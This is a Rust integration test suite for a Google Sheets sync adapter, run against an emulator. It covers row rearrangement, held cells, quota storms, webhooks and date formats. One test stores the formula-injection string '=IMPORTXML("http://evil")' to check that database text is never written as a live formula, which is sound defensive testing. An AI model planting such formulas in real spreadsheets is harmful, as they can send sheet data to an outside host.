//! The Sheets adapter against the emulator: the core conformance suite, and a person sorting,
//! moving, inserting, pasting, deleting, clearing keys and renaming the tab while the engine
//! syncs with a database-like table; quota storms, 5xx bursts, latency, and edits whose
//! webhook never arrives.

use std::sync::Arc;
use std::time::Duration;

use async_trait::async_trait;
use serde_json::{json, Value as Json};
use sheetsync_core::testkit::{undeclared_capabilities, ExternalWriter, Fixture, FixtureFactory};
use sheetsync_core::*;
use sheetsync_emulator::{Config, EmulatorHandle, FaultRule, Latency};
use sheetsync_gsheets::convert::{read_cell, write_cell};
use sheetsync_gsheets::{ClientConfig, SheetEdit, SheetOptions, SheetTable, SheetsClient};

mod common;
use common::{fast_client, fast_client_as};

/// More retries than the common client's: a storm of nine refusals in a row must pass.
fn patient(mut c: ClientConfig) -> ClientConfig {
    c.backoff.max_retries = 12;
    c
}

struct Rig {
    emu: EmulatorHandle,
    id: String,
    sheet: Arc<SheetTable>,
    /// Another program writing through the API (no triggers fire).
    other: Arc<SheetsClient>,
}

async fn rig(schema: TableSchema) -> Rig {
    rig_with(schema, |_| {}).await
}

async fn rig_with(schema: TableSchema, tune: impl FnOnce(&mut SheetOptions)) -> Rig {
    let emu = EmulatorHandle::start(Config::default())
        .await
        .expect("emulator starts");
    let id = emu.create_spreadsheet("sync test").expect("spreadsheet");
    let client = Arc::new(
        SheetsClient::new(patient(fast_client(&emu.base_url())))
            .await
            .unwrap(),
    );
    let other = patient(fast_client_as(&emu.base_url(), "other-program"));
    let other = Arc::new(SheetsClient::new(other).await.unwrap());
    let mut opts = SheetOptions::new(&id, 0);
    tune(&mut opts);
    let sheet = Arc::new(SheetTable::new(client, opts, schema));
    Rig {
        emu,
        id,
        sheet,
        other,
    }
}

/// Writes as another program and reports the edit the way the Apps Script trigger would.
struct OtherProgram {
    rig: Rig,
    schema: TableSchema,
}

impl OtherProgram {
    fn values(&self) -> Vec<Vec<Json>> {
        let v = self.rig.emu.read_values(&self.rig.id, "Sheet1").unwrap();
        serde_json::from_value(v).unwrap_or_default()
    }

    /// The 1-based row holding `key`, if any.
    fn find(&self, key: &RowKey) -> Option<u32> {
        let values = self.values();
        let k = self.schema.key[0];
        let ty = self.schema.columns[k].ty;
        values.iter().enumerate().skip(1).find_map(|(i, r)| {
            let cell = r.get(k).cloned().unwrap_or(json!(""));
            let v = read_cell(&cell, ty, chrono_tz::Tz::UTC).ok()?;
            (RowKey::from_values(&[v]) == *key).then_some(i as u32 + 1)
        })
    }

    async fn ensure_header(&self) {
        if self.values().is_empty() {
            let names: Vec<Json> = self.schema.columns.iter().map(|c| json!(c.name)).collect();
            self.write_row(1, names).await;
        }
    }

    async fn write_row(&self, row: u32, cells: Vec<Json>) {
        let range = format!(
            "'Sheet1'!A{row}:{}{row}",
            sheetsync_gsheets::col_letters(cells.len() as u32 - 1)
        );
        self.rig
            .other
            .batch_update_values(
                &self.rig.id,
                vec![google_sheets4::api::ValueRange {
                    range: Some(range),
                    major_dimension: Some("ROWS".into()),
                    values: Some(vec![cells]),
                }],
            )
            .await
            .unwrap();
    }
}

#[async_trait]
impl ExternalWriter for OtherProgram {
    async fn upsert(&self, row: Row) -> Result<()> {
        self.ensure_header().await;
        let key = row.key(&self.schema).unwrap();
        let at = match self.find(&key) {
            Some(r) => r,
            None => self.values().len() as u32 + 1,
        };
        let cells: Vec<Json> = row
            .0
            .iter()
            .map(|v| write_cell(v, chrono_tz::Tz::UTC).unwrap())
            .collect();
        self.write_row(at, cells).await;
        let values = self.values();
        self.rig.sheet.accept_edit(SheetEdit {
            sheet_id: 0,
            timestamp_ms: chrono::Utc::now().timestamp_millis(),
            header: values[0].clone(),
            rows: vec![(at, values[at as usize - 1].clone())],
            structural: false,
            columns: None,
        })
    }

    async fn delete(&self, key: RowKey) -> Result<()> {
        if let Some(r) = self.find(&key) {
            self.rig
                .emu
                .delete_rows(&self.rig.id, "Sheet1", r, 1)
                .unwrap();
            self.rig.sheet.accept_edit(SheetEdit {
                sheet_id: 0,
                timestamp_ms: chrono::Utc::now().timestamp_millis(),
                header: vec![],
                rows: vec![],
                structural: true,
                columns: None,
            })?;
        }
        Ok(())
    }
}

struct Sheets;

#[async_trait]
impl FixtureFactory for Sheets {
    async fn create(&self, schema: TableSchema) -> Result<Fixture> {
        let rig = rig(schema.clone()).await;
        let table = rig.sheet.clone();
        Ok(Fixture {
            table,
            external: Arc::new(OtherProgram { rig, schema }),
        })
    }
}

/// One test per conformance check, against the emulator.
mod conformance {
    use super::*;
    sheetsync_core::conformance_tests!(Sheets);
}

#[tokio::test]
async fn conformance_skips_only_what_a_sheet_cannot_do() {
    let missing = undeclared_capabilities(&Sheets).await;
    assert_eq!(
        missing,
        vec!["conditional_writes", "generated_keys"],
        "the change feed and wake-ups are checked"
    );
}

fn items() -> TableSchema {
    TableSchema::new(
        "items",
        vec![
            Column::new("id", ColumnType::Int).nullable(false),
            Column::new("name", ColumnType::Text),
            Column::new("qty", ColumnType::Int),
        ],
        &["id"],
    )
    .unwrap()
}

fn item(id: i64, name: &str, qty: i64) -> Row {
    Row::new(vec![Value::Int(id), name.into(), Value::Int(qty)])
}

async fn engine_for(rig: &Rig, db: Arc<MemoryTable>) -> Engine {
    let mut m = MappingConfig::new("items", &["id"]);
    m.timing.full_scan_interval_ms = 0;
    Engine::builder(m, rig.sheet.clone(), db)
        .build()
        .await
        .unwrap()
}

/// A database table holding `rows`, and an engine that has synced it into the rig's tab.
async fn synced(rig: &Rig, rows: impl IntoIterator<Item = Row>) -> (Arc<MemoryTable>, Engine) {
    let db = Arc::new(MemoryTable::new("db", items()));
    for row in rows {
        db.upsert(row);
    }
    let e = engine_for(rig, db.clone()).await;
    e.run_once().await.unwrap();
    (db, e)
}

fn sheet_rows(rig: &Rig) -> Vec<Json> {
    let v = rig.emu.read_values(&rig.id, "Sheet1").unwrap();
    v.as_array().cloned().unwrap_or_default()
}

#[tokio::test]
async fn a_person_rearranging_the_sheet_changes_nothing_and_edits_sync() {
    let rig = rig(items()).await;
    let (db, e) = synced(&rig, (1..=6).map(|i| item(i, &format!("item {i}"), i * 10))).await;
    let rows = sheet_rows(&rig);
    assert_eq!(
        rows[0],
        json!(["id", "name", "qty"]),
        "the header is written into an empty tab"
    );
    assert_eq!(rows.len(), 7);

    // Sort descending by name, move rows, insert blank rows in the middle.
    rig.emu
        .sort_range(&rig.id, "Sheet1!A2:C7", 2, false)
        .unwrap();
    rig.emu.move_rows(&rig.id, "Sheet1", 2, 2, 6).unwrap();
    rig.emu.insert_rows(&rig.id, "Sheet1", 4, 2).unwrap();
    let rep = e.run_once().await.unwrap();
    assert_eq!(
        rep.writes.total(),
        0,
        "moving rows is not a change: {rep:?}"
    );
    assert_eq!(db.rows().len(), 6);

    // Paste a block over two rows (wherever they are now).
    let values = sheet_rows(&rig);
    let r3 = values.iter().position(|r| r[0] == json!(3)).unwrap() as u32 + 1;
    rig.emu
        .set_cells(
            &rig.id,
            &format!("Sheet1!B{r3}"),
            vec![vec![json!("pasted"), json!(33)]],
        )
        .unwrap();
    e.run_once().await.unwrap();
    assert_eq!(db.get(&key_of(3)), Some(item(3, "pasted", 33)));

    // The database changes a row the person moved: the right row is updated.
    db.upsert(item(5, "from db", 55));
    e.run_once().await.unwrap();
    let values = sheet_rows(&rig);
    let r5 = values.iter().find(|r| r[0] == json!(5)).unwrap();
    assert_eq!(r5, &json!([5, "from db", 55]));

    // A person deletes a row.
    let values = sheet_rows(&rig);
    let r1 = values.iter().position(|r| r[0] == json!(1)).unwrap() as u32 + 1;
    rig.emu.delete_rows(&rig.id, "Sheet1", r1, 1).unwrap();
    e.run_once().await.unwrap();
    assert_eq!(db.get(&key_of(1)), None);
    assert_eq!(db.rows().len(), 5);

    // A database delete removes the right row even after sorting.
    db.delete(&key_of(2));
    e.run_once().await.unwrap();
    assert!(!sheet_rows(&rig).iter().any(|r| r[0] == json!(2)));

    // Rename the tab: the mapping follows the sheetId.
    rig.other
        .batch_update(
            &rig.id,
            google_sheets4::api::BatchUpdateSpreadsheetRequest {
                requests: Some(vec![google_sheets4::api::Request {
                    update_sheet_properties: Some(
                        google_sheets4::api::UpdateSheetPropertiesRequest {
                            properties: Some(google_sheets4::api::SheetProperties {
                                sheet_id: Some(0),
                                title: Some("Renamed 'tab'".into()),
                                ..Default::default()
                            }),
                            fields: Some(google_sheets4::FieldMask::new(&["title"])),
                        },
                    ),
                    ..Default::default()
                }]),
                ..Default::default()
            },
        )
        .await
        .unwrap();
    db.upsert(item(9, "after rename", 9));
    e.run_once().await.unwrap();
    let v = rig.emu.read_values(&rig.id, "'Renamed ''tab'''").unwrap();
    assert!(v.as_array().unwrap().iter().any(|r| r[0] == json!(9)));
    assert_eq!(e.run_once().await.unwrap().writes.total(), 0);
}

#[tokio::test]
async fn a_cleared_key_cell_is_restored_and_bad_cells_are_held() {
    let rig = rig(items()).await;
    let (db, e) = synced(&rig, (1..=3).map(|i| item(i, &format!("item {i}"), i))).await;
    let values = sheet_rows(&rig);
    let r2 = values.iter().position(|r| r[0] == json!(2)).unwrap() as u32 + 1;
    rig.emu
        .clear_range(&rig.id, &format!("Sheet1!A{r2}"))
        .unwrap();
    e.run_once().await.unwrap();
    assert_eq!(db.rows().len(), 3, "clearing a key cell deletes nothing");
    assert_eq!(
        sheet_rows(&rig)[r2 as usize - 1][0],
        json!(2),
        "the key is written back"
    );

    // Text in a number column: that row is held, the others sync.
    rig.emu
        .set_cells(&rig.id, &format!("Sheet1!C{r2}"), vec![vec![json!("lots")]])
        .unwrap();
    let r3 = sheet_rows(&rig)
        .iter()
        .position(|r| r[0] == json!(3))
        .unwrap() as u32
        + 1;
    rig.emu
        .set_cells(
            &rig.id,
            &format!("Sheet1!B{r3}"),
            vec![vec![json!("renamed")]],
        )
        .unwrap();
    e.run_once().await.unwrap();
    assert_eq!(
        db.get(&key_of(2)),
        Some(item(2, "item 2", 2)),
        "a held row is neither changed nor deleted"
    );
    assert_eq!(db.get(&key_of(3)), Some(item(3, "renamed", 3)));
    let held = e.held().await;
    assert_eq!(held.len(), 1);
    assert!(
        held[0].reason.contains("\"lots\" is not a valid integer"),
        "{}",
        held[0].reason
    );
    assert!(
        held[0]
            .locator
            .as_deref()
            .unwrap_or("")
            .contains(&format!("A{r2}")),
        "{:?}",
        held[0].locator
    );
    rig.emu
        .set_cells(&rig.id, &format!("Sheet1!C{r2}"), vec![vec![json!(20)]])
        .unwrap();
    e.run_once().await.unwrap();
    assert_eq!(db.get(&key_of(2)), Some(item(2, "item 2", 20)));
    assert!(e.held().await.is_empty());
}

#[tokio::test]
async fn new_rows_typed_without_a_key_get_one() {
    let schema = TableSchema::new(
        "skus",
        vec![
            Column::new("sku", ColumnType::Text).nullable(false),
            Column::new("name", ColumnType::Text),
        ],
        &["sku"],
    )
    .unwrap();
    let rig = rig(schema.clone()).await;
    let db = Arc::new(MemoryTable::new("db", schema));
    db.upsert(Row::new(vec!["A-1".into(), "first".into()]));
    let mut m = MappingConfig::new("skus", &["sku"]);
    m.timing.full_scan_interval_ms = 0;
    let e = Engine::builder(m, rig.sheet.clone(), db.clone())
        .build()
        .await
        .unwrap();
    e.run_once().await.unwrap();
    rig.emu
        .set_cells(&rig.id, "Sheet1!B3", vec![vec![json!("typed by a person")]])
        .unwrap();
    e.run_once().await.unwrap();
    let rows = sheet_rows(&rig);
    let sku = rows[2][0].as_str().unwrap().to_string();
    assert_eq!(
        sku.len(),
        36,
        "a UUID key is written into the Sheet: {rows:?}"
    );
    assert_eq!(
        db.get(&key_of(sku.as_str())),
        Some(Row::new(vec![
            sku.as_str().into(),
            "typed by a person".into()
        ]))
    );
    assert_eq!(e.run_once().await.unwrap().writes.total(), 0);
}

#[tokio::test]
async fn database_text_never_becomes_a_formula_and_values_stay_exact() {
    let schema = TableSchema::new(
        "t",
        vec![
            Column::new("id", ColumnType::Text).nullable(false),
            Column::new("amount", ColumnType::Decimal),
            Column::new("note", ColumnType::Text),
            Column::new("day", ColumnType::Date),
        ],
        &["id"],
    )
    .unwrap();
    let rig = rig(schema.clone()).await;
    let db = Arc::new(MemoryTable::new("db", schema.clone()));
    let row = Row::new(vec![
        "007".into(),
        Value::Decimal("12345678901234567890.01".parse().unwrap()),
        "=IMPORTXML(\"http://evil\")".into(),
        Value::Date(chrono::NaiveDate::from_ymd_opt(2020, 1, 1).unwrap()),
    ]);
    db.upsert(row.clone());
    let mut m = MappingConfig::new("t", &["id"]);
    m.timing.full_scan_interval_ms = 0;
    let e = Engine::builder(m, rig.sheet.clone(), db.clone())
        .build()
        .await
        .unwrap();
    e.run_once().await.unwrap();
    let ss = rig.emu.spreadsheet(&rig.id).unwrap();
    let dump = serde_json::to_string(&ss).unwrap();
    assert!(
        !dump.contains("formulaValue"),
        "no cell may hold a formula: {dump}"
    );
    let v = rig.emu.read_values(&rig.id, "Sheet1!A2:D2").unwrap();
    assert_eq!(
        v,
        json!([[
            "007",
            "12345678901234567890.01",
            "=IMPORTXML(\"http://evil\")",
            43831
        ]])
    );
    assert_eq!(
        e.run_once().await.unwrap().writes.total(),
        0,
        "exact values read back equal"
    );
}

#[tokio::test]
async fn quota_storms_5xx_bursts_and_latency_lose_nothing() {
    let rig = rig(items()).await;
    let db = Arc::new(MemoryTable::new("db", items()));
    let e = engine_for(&rig, db.clone()).await;
    for i in 1..=20 {
        db.upsert(item(i, "x", i));
    }
    rig.emu.inject_fault(FaultRule::status_next(429, 6));
    rig.emu.inject_fault(FaultRule::status_next(503, 3));
    rig.emu.set_latency(Latency {
        fixed_ms: 200,
        jitter_ms: 0,
    });
    e.run_once().await.unwrap();
    rig.emu.set_latency(Latency::default());
    assert_eq!(sheet_rows(&rig).len(), 21);
    let retries: u64 = rig.sheet.client().counter().retries().values().sum();
    assert!(retries >= 9, "every refused request was retried: {retries}");
    // A storm longer than the retries allow fails the cycle, and the next one catches up.
    rig.emu.inject_fault(FaultRule::status_next(429, 1000));
    db.upsert(item(21, "during storm", 21));
    assert!(e.run_once().await.is_err());
    rig.emu.clear_faults();
    e.run_once().await.unwrap();
    assert!(sheet_rows(&rig).iter().any(|r| r[0] == json!(21)));
    assert_eq!(db.rows().len(), 21);
}

#[tokio::test]
async fn an_edit_whose_webhook_never_arrives_is_caught_by_the_next_read() {
    let rig = rig(items()).await;
    let db = Arc::new(MemoryTable::new("db", items()));
    db.upsert(item(1, "a", 1));
    let mut m = MappingConfig::new("items", &["id"]);
    // Reads in full only every minute: between them only the webhook feed is read.
    m.timing.full_scan_interval_ms = 60_000;
    let state = Arc::new(MemoryStateStore::new());
    let e = Engine::builder(m.clone(), rig.sheet.clone(), db.clone())
        .state(state.clone())
        .build()
        .await
        .unwrap();
    e.run_once().await.unwrap();
    rig.emu
        .set_cells(
            &rig.id,
            "Sheet1!B2",
            vec![vec![json!("edited, no webhook")]],
        )
        .unwrap();
    e.run_once().await.unwrap();
    assert_eq!(
        db.get(&key_of(1)),
        Some(item(1, "a", 1)),
        "no webhook, no full read yet"
    );
    // The periodic full read (a restarted engine reads in full at once) catches it.
    let e = Engine::builder(m, rig.sheet.clone(), db.clone())
        .state(state)
        .build()
        .await
        .unwrap();
    e.run_once().await.unwrap();
    assert_eq!(db.get(&key_of(1)), Some(item(1, "edited, no webhook", 1)));
}

#[tokio::test]
async fn writes_per_cycle_do_not_grow_with_rows() {
    let rig = rig(items()).await;
    let (db, e) = synced(&rig, (1..=1000).map(|i| item(i, "x", i))).await;
    rig.emu.reset_counters();
    for i in 1..=1000 {
        if i % 3 == 0 {
            db.delete(&key_of(i));
        } else {
            db.upsert(item(i, "changed", i));
        }
    }
    for i in 1001..=1300 {
        db.upsert(item(i, "new", i));
    }
    e.allow_deletes_once().await;
    e.run_once().await.unwrap();
    let counts = rig.emu.request_counts();
    let writes: u64 = [
        "sheets.spreadsheets.values.batchUpdate",
        "sheets.spreadsheets.batchUpdate",
        "sheets.spreadsheets.values.append",
        "sheets.spreadsheets.values.update",
    ]
    .iter()
    .map(|m| counts.get(*m).copied().unwrap_or(0))
    .sum();
    assert!(
        writes <= 3,
        "one batchUpdate, one deleteDimension batch, one append: {counts:?}"
    );
    let rows = sheet_rows(&rig);
    assert_eq!(rows.len(), 1 + 1000 - 333 + 300);
    assert_eq!(e.run_once().await.unwrap().writes.total(), 0);
}

/// A person's edit reaches the database through the signed webhook alone: no Sheets read
/// happens between the edit and the database write.
#[tokio::test]
async fn webhook_edits_reach_the_database_without_reading_the_sheet() {
    use sheetsync_gsheets::webhook::{EditRouter, WebhookConfig, WebhookReceiver};
    // One clock for the emulator and the adapter: an edit right after the initial sync is not
    // mistaken for one the sync's writes overwrote.
    let rig = rig_with(items(), |o| o.clock_skew_ms = 0).await;
    let db = Arc::new(MemoryTable::new("db", items()));
    for i in 1..=3 {
        db.upsert(item(i, "x", i));
    }
    let mut m = MappingConfig::new("items", &["id"]);
    m.timing.full_scan_interval_ms = 3_600_000;
    let e = Engine::builder(m, rig.sheet.clone(), db.clone())
        .build()
        .await
        .unwrap();
    e.run_once().await.unwrap();

    let router = EditRouter::new();
    router.add(rig.sheet.clone());
    let receiver = WebhookReceiver::new(WebhookConfig::new("s3cret"), router.handler()).unwrap();
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move { axum::serve(listener, receiver.router("/hook")).await });
    rig.emu
        .add_trigger(
            &rig.id,
            sheetsync_emulator::TriggerSpec {
                url: format!("http://{addr}/hook"),
                secret: "s3cret".into(),
                sheet_id: None,
            },
        )
        .unwrap();

    rig.emu.reset_counters();
    let r2 = sheet_rows(&rig)
        .iter()
        .position(|r| r[0] == json!(2))
        .unwrap() as u32
        + 1;
    rig.emu
        .set_cells(
            &rig.id,
            &format!("Sheet1!B{r2}"),
            vec![vec![json!("via webhook")]],
        )
        .unwrap();
    let delivered = rig
        .emu
        .wait_for_deliveries(1, Duration::from_secs(30))
        .await;
    assert!(
        delivered.iter().any(|d| d.status == Some(200)),
        "{delivered:?}"
    );
    e.run_once().await.unwrap();
    assert_eq!(db.get(&key_of(2)), Some(item(2, "via webhook", 2)));
    assert_eq!(
        rig.emu.value_reads(),
        0,
        "the edit came through the webhook, not a read: {:?}",
        rig.emu.request_counts()
    );
    // A deleted row cannot be described by the trigger: the next cycle reads in full.
    rig.emu.delete_rows(&rig.id, "Sheet1", r2, 1).unwrap();
    rig.emu
        .wait_for_deliveries(2, Duration::from_secs(30))
        .await;
    e.run_once().await.unwrap();
    assert_eq!(db.get(&key_of(2)), None);
}

/// Dates, timestamps and times the engine adds to a Sheet show as dates to people (and to any
/// client reading formatted values), while the values API still gives back the exact serials;
/// a row updated later keeps its cells' formats.
#[tokio::test]
async fn new_rows_show_dates_as_dates() {
    let schema = TableSchema::new(
        "events",
        vec![
            Column::new("id", ColumnType::Int).nullable(false),
            Column::new("due", ColumnType::Date),
            Column::new("at", ColumnType::Timestamp),
            Column::new("starts", ColumnType::Time),
            Column::new("note", ColumnType::Text),
        ],
        &["id"],
    )
    .unwrap();
    let rig = rig(schema.clone()).await;
    let db = Arc::new(MemoryTable::new("db", schema));
    let date = chrono::NaiveDate::from_ymd_opt(2024, 1, 31).unwrap();
    let at = date.and_hms_opt(13, 45, 10).unwrap();
    let row = |note: &str| {
        Row::new(vec![
            Value::Int(1),
            Value::Date(date),
            Value::Timestamp(at),
            Value::Time(at.time()),
            note.into(),
        ])
    };
    db.upsert(row("first"));
    let mut m = MappingConfig::new("events", &["id"]);
    m.timing.full_scan_interval_ms = 0;
    let engine = Engine::builder(m, rig.sheet.clone(), db.clone())
        .build()
        .await
        .unwrap();
    engine.run_once().await.unwrap();
    let formatted = |rig: &Rig| {
        let id = rig.id.clone();
        let other = rig.other.clone();
        async move {
            let got = other
                .batch_get(&id, &["Sheet1!A2:E2".to_string()], "FORMATTED_VALUE")
                .await
                .unwrap();
            got[0].values.clone().unwrap_or_default()
        }
    };
    let want = |note: &str| {
        vec![vec![
            json!("1"),
            json!("2024-01-31"),
            json!("2024-01-31 13:45:10"),
            json!("13:45:10"),
            json!(note),
        ]]
    };
    assert_eq!(formatted(&rig).await, want("first"));
    let serials = rig.emu.read_values(&rig.id, "Sheet1!B2:B2").unwrap();
    assert_eq!(
        serials,
        json!([[45322]]),
        "the value is still the serial number"
    );
    db.upsert(row("second"));
    engine.run_once().await.unwrap();
    assert_eq!(
        formatted(&rig).await,
        want("second"),
        "formats survive updates"
    );
    assert_eq!(engine.run_once().await.unwrap().writes.total(), 0);
}

/// A full read of a file whose Drive version has not moved is served from the last one (kept
/// compact): no Sheets read, the same observations, and a person's edit is read afresh.
#[tokio::test]
async fn an_unchanged_file_is_not_read_again() {
    let rig = rig(items()).await;
    let _synced = synced(&rig, (1..=50).map(|i| item(i, &format!("name {i}"), i))).await;
    let first = rig.sheet.scan_all().await.unwrap();
    rig.emu.reset_counters();
    let again = rig.sheet.scan_all().await.unwrap();
    assert_eq!(again, first);
    assert_eq!(again.len(), 50);
    let counts = rig.emu.request_counts();
    let sheets_reads: u64 = counts
        .iter()
        .filter(|(m, _)| m.starts_with("sheets.") && m.to_lowercase().contains("get"))
        .map(|(_, n)| *n)
        .sum();
    assert_eq!(sheets_reads, 0, "{counts:?}");
    rig.other
        .batch_update_values(
            &rig.id,
            vec![google_sheets4::api::ValueRange {
                range: Some("Sheet1!B2".into()),
                values: Some(vec![vec![json!("edited")]]),
                ..Default::default()
            }],
        )
        .await
        .unwrap();
    let edited = rig.sheet.scan_all().await.unwrap();
    assert!(
        edited.iter().any(
            |o| matches!(&o.change, Change::Upsert(r) if r.0[1] == Value::Text("edited".into()))
        ),
        "{edited:?}"
    );
}
